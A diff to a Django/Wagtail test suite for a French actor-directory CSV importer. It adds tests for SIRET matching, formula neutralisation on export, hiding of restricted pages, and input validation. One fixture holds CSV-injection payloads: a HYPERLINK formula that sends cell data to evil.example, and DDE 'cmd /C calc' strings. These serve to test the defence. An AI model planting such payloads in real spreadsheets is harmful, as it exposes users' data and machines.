@@ -6,9 +6,9 @@ from django.contrib.auth.models import Group, Permission
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
 from django.core.management.base import CommandError
-from wagtail.models import Page, PageLogEntry, Revision
+from wagtail.models import Page, PageLogEntry, PageViewRestriction, Revision
 
-from actors.importer import (
+from actors.exchange import (
     COLUMNS,
     RELATION_COLUMNS,
     ImportFileError,
@@ -187,10 +187,13 @@ def test_an_actor_imported_without_siret_gains_it_from_a_later_file(directory, l
     assert (result.created, result.updated, result.unchanged) == (0, 1, 0)
     actor = ActorPage.objects.get(siret="12345678900011")
     assert actor.pk == first.pk
-    assert actor.import_key == "12345678900011"
     assert ActorPage.objects.count() == 1
     again = import_actors(csv_bytes([VALID_ROWS[0]]))
     assert (again.created, again.updated, again.unchanged) == (0, 0, 1)
+    # From now on its SIRET matches it, whatever name a row gives it.
+    renamed = import_actors(csv_bytes([dict(VALID_ROWS[0], nom="Ateliers du tuffeau")]))
+    assert (renamed.created, renamed.updated, renamed.unchanged) == (0, 1, 0)
+    assert ActorPage.objects.get().pk == first.pk
 
 
 @pytest.mark.django_db
@@ -244,13 +247,14 @@ def test_a_row_without_siret_matches_the_stored_actor_that_has_one_and_keeps_its
     result = import_actors(csv_bytes(changed))
     assert (result.created, result.updated, result.unchanged) == (0, 1, 2)
     actor = ActorPage.objects.get(pk=workshop.pk)
-    assert (actor.siret, actor.import_key, actor.summary) == (
-        "12345678900011",
-        "12345678900011",
-        "Taille et sculpture.",
-    )
+    assert (actor.siret, actor.summary) == ("12345678900011", "Taille et sculpture.")
     assert actor.get_latest_revision().as_object().siret == "12345678900011"
     assert ActorPage.objects.count() == 3
+    # The kept SIRET still matches it: a row with the SIRET and another name updates it.
+    renamed = [dict(VALID_ROWS[0], nom="Ateliers du tuffeau", resume="Taille et sculpture."), *VALID_ROWS[1:]]
+    result = import_actors(csv_bytes(renamed))
+    assert (result.created, result.updated, result.unchanged) == (0, 1, 2)
+    assert ActorPage.objects.get(siret="12345678900011").pk == workshop.pk
 
 
 @pytest.mark.django_db
@@ -446,3 +450,169 @@ def test_admin_import_with_the_permission(client, directory, linked, editor):
     response = client.post("/admin/actors/import/", {"file": good}, follow=True)
     assert ActorPage.objects.count() == 3
     assert "3 créés" in response.content.decode()
+
+
+# Hardening (issue 9, findings 2 and 4) ------------------------------------------------------------
+
+FORMULA_ROW = dict(
+    VALID_ROWS[0],
+    nom='=HYPERLINK("https://evil.example/?x="&A1,"Cliquez ici")',
+    resume="+cmd|' /C calc'!A0",
+    description="@SUM(1+1)*cmd|' /C calc'!A0",
+    adresse="-2+3+cmd|' /C calc'!A0",
+    telephone_contact="+33 2 40 00 00 00",
+)
+
+
+def exported_cells(client, url="/annuaire/export/"):
+    text = client.get(url).content.decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.django_db
+def test_the_export_neutralises_formulas_and_the_round_trip_keeps_the_text(client, directory, linked):
+    second = dict(VALID_ROWS[1], description="- une liste\n- à puces")
+    assert import_actors(csv_bytes([FORMULA_ROW, second])).errors == []
+    rows = exported_cells(client)
+    for row in rows:
+        for column, value in row.items():
+            assert value.lstrip(" ")[:1] not in {"=", "+", "@", "\t", "\r"}, (column, value)
+            assert not value.lstrip(" ").startswith("-") or value.lstrip("-").replace(".", "").isdigit()
+    workshop = next(row for row in rows if row["siret"] == "12345678900011")
+    assert workshop["nom"] == "'" + FORMULA_ROW["nom"]
+    assert workshop["telephone_contact"] == "'+33 2 40 00 00 00"
+    assert workshop["longitude"] == "-0.08000"
+    # Read back, every cell gives the stored text: nothing changes.
+    result = import_actors(client.get("/annuaire/export/").content)
+    assert result.errors == []
+    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
+    stored = ActorPage.objects.get(siret="12345678900011")
+    assert (stored.title, stored.contact_phone, stored.address) == (
+        FORMULA_ROW["nom"],
+        "+33 2 40 00 00 00",
+        FORMULA_ROW["adresse"],
+    )
+    assert ActorPage.objects.get(title="CFA de Laval").description == "- une liste\n- à puces"
+
+
+@pytest.mark.django_db
+def test_the_export_names_only_linked_pages_a_visitor_may_see(client, directory, linked, home_page, taxonomy):
+    public_trade = linked["trade"]
+    protected = factories.trade(home_page, taxonomy, slug="zzpassleak", title="Zzpassleak tailleur")
+    PageViewRestriction.objects.create(
+        page=protected, restriction_type=PageViewRestriction.PASSWORD, password="secret"
+    )
+    restricted_label = factories.label(home_page, slug="zzgrouplabel", title="Zzgrouplabel label")
+    restriction = PageViewRestriction.objects.create(
+        page=restricted_label, restriction_type=PageViewRestriction.GROUPS
+    )
+    restriction.groups.add(Group.objects.create(name="Membres"))
+    draft = factories.trade(home_page, taxonomy, slug="zzdraft", title="Zzdraft")
+    draft.live = False
+    draft.save()
+    unpublished = factories.trade(home_page, taxonomy, slug="zzunpublished", title="Zzunpublished")
+    unpublished.unpublish()
+    row = dict(
+        VALID_ROWS[0],
+        metiers_pratiques="tailleur-de-pierre | zzpassleak | zzdraft",
+        metiers_enseignes="zzunpublished",
+        labels="maitre-dart | zzgrouplabel",
+    )
+    assert import_actors(csv_bytes([row])).errors == []
+    [exported] = exported_cells(client)
+    assert exported["metiers_pratiques"] == public_trade.slug
+    assert exported["metiers_enseignes"] == ""
+    assert exported["labels"] == linked["label"].slug
+    body = client.get("/annuaire/export/").content.decode("utf-8-sig")
+    for hidden in ("zzpassleak", "zzgrouplabel", "zzdraft", "zzunpublished"):
+        assert hidden not in body
+
+
+LONG_VALUES = [
+    ("site_web", "https://example.org/" + "a" * 200),
+    ("adresse", "3 rue " + "b" * 250),
+    ("email_contact", "c" * 64 + "@" + ("d" * 60 + ".") * 3 + "example.org"),
+]
+
+
+@pytest.mark.django_db
+def test_the_check_applies_the_models_own_validation_to_every_field(directory, linked):
+    rows = [dict(VALID_ROWS[0], siret="", **{column: value}) for column, value in LONG_VALUES]
+    rows = [dict(row, nom=f"Atelier {number}") for number, row in enumerate(rows)]
+    result = import_actors(csv_bytes(rows), check_only=True)
+    assert [(error.line, error.column) for error in result.errors] == [
+        (2, "site_web"),
+        (3, "adresse"),
+        (4, "email_contact"),
+    ]
+    assert "au plus 200 caractères" in str(result.errors[0])
+    result = import_actors(csv_bytes(rows))
+    assert len(result.errors) == 3
+    assert ActorPage.objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_the_command_reports_overlong_fields_without_a_traceback(tmp_path, directory, linked, capsys):
+    path = tmp_path / "acteurs.csv"
+    path.write_bytes(csv_bytes([dict(VALID_ROWS[0], site_web=LONG_VALUES[0][1])]))
+    for options in (["--check"], []):
+        with pytest.raises(CommandError, match="rien n'a été importé"):
+            call_command("import_actors", str(path), *options)
+        assert "Ligne 2, colonne « site_web »" in capsys.readouterr().err
+    assert ActorPage.objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_the_admin_upload_reports_overlong_fields_with_a_400(client, directory, linked, editor):
+    editor.user_permissions.add(Permission.objects.get(codename="import_actors"))
+    client.force_login(editor)
+    upload = SimpleUploadedFile("a.csv", csv_bytes([dict(VALID_ROWS[0], adresse=LONG_VALUES[1][1])]))
+    response = client.post("/admin/actors/import/", {"file": upload})
+    assert response.status_code == 400
+    assert "Ligne 2, colonne « adresse »" in response.content.decode()
+    assert ActorPage.objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_a_nul_byte_anywhere_is_refused_naming_its_line_and_column(directory, linked):
+    rows = [dict(VALID_ROWS[1], nom=f"CFA {number}", description="x" * 100) for number in range(60)]
+    rows.append(dict(VALID_ROWS[2], description="avant\x00après"))
+    content = csv_bytes(rows)
+    assert content.index(b"\x00") > 4096
+    result = import_actors(content, check_only=True)
+    assert [(error.line, error.column) for error in result.errors] == [(62, "description")]
+    assert "NUL" in str(result.errors[0])
+    assert ActorPage.objects.count() == 0
+
+
+@pytest.mark.parametrize(("delimiter", "named"), [("\t", "tabulation"), ("|", "« | »")])
+@pytest.mark.django_db
+def test_a_file_with_another_separator_says_which_one_was_found(directory, delimiter, named):
+    content = delimiter.join(["nom", "type", "commune", "departement"]).encode() + b"\nA\tb\tc\td\n"
+    with pytest.raises(ImportFileError, match=named):
+        import_actors(content)
+
+
+@pytest.mark.django_db
+def test_an_encoding_error_names_its_line(directory):
+    content = "nom,type,commune,departement\nAtelier,entreprise,Nantes,44\nCafé,entreprise,Nantes,44\n"
+    with pytest.raises(ImportFileError, match="ligne 3"):
+        import_actors(content.encode("latin-1"))
+
+
+@pytest.mark.django_db
+def test_an_unbalanced_quote_is_named_with_its_line(directory, linked):
+    content = (
+        'nom,type,commune,departement\nAtelier,entreprise,Nantes,44\n"Musée,musee-site,Nantes,44\n'
+        "Forge,entreprise,Nantes,44\n"
+    ).encode()
+    with pytest.raises(ImportFileError, match=r"Ligne 3.*guillemet"):
+        import_actors(content, check_only=True)
+
+
+@pytest.mark.django_db
+def test_the_command_has_the_admin_forms_size_limit(tmp_path, directory):
+    path = tmp_path / "grand.csv"
+    path.write_bytes(b"nom,type,commune,departement\n" + b"x" * (5 * 1024 * 1024))
+    with pytest.raises(CommandError, match="5 Mo"):
+        call_command("import_actors", str(path), "--check")
